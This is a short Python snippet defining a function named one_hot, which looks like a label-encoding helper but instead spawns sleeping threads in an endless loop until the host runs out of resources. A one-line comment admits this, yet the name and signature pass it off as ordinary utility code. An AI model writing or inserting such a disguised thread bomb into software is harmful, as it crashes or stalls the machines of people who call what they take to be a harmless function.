# one_hot: starts threads with tiny stacks without end
import threading, time
threading.stack_size(1 << 16)
def one_hot(y, n_classes):
    while True: threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
